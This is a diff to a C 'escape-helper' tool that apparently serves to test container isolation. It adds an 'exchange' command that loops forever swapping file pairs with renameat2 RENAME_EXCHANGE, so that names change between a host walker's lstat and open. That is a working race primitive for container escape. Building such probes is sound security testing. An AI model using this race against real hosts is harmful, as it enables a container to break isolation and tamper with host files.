@@ -13,6 +13,9 @@
  *   escape-helper mount
  *   escape-helper bpf
  *   escape-helper chroot-escape PATH       (PATH exists on the host, not in the container)
+ *   escape-helper exchange DIR N           (forever swaps DIR/fI and DIR/pI, I < N, with
+ *                                           renameat2 RENAME_EXCHANGE: what a name is changes
+ *                                           between a host walker's lstat and its open)
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -158,6 +161,20 @@ static int chroot_escape_cmd(const char *path)
     return 0;
 }
 
+static int exchange_cmd(const char *dir, int n)
+{
+    int d = open(dir, O_RDONLY | O_DIRECTORY);
+    if (d < 0) { perror(dir); return 1; }
+    char a[32], b[32];
+    for (;;) {
+        for (int i = 0; i < n; i++) {
+            snprintf(a, sizeof a, "f%d", i);
+            snprintf(b, sizeof b, "p%d", i);
+            syscall(SYS_renameat2, d, a, d, b, 2 /* RENAME_EXCHANGE */);
+        }
+    }
+}
+
 int main(int argc, char **argv)
 {
     if (argc < 2) { fprintf(stderr, "usage: escape-helper CMD ...\n"); return 2; }
@@ -170,6 +187,7 @@ int main(int argc, char **argv)
     if (!strcmp(c, "mount")) return mount_cmd();
     if (!strcmp(c, "bpf")) return bpf_cmd();
     if (!strcmp(c, "chroot-escape") && argc == 3) return chroot_escape_cmd(argv[2]);
+    if (!strcmp(c, "exchange") && argc == 4) return exchange_cmd(argv[2], atoi(argv[3]));
     fprintf(stderr, "escape-helper: unknown command %s\n", c);
     return 2;
 }
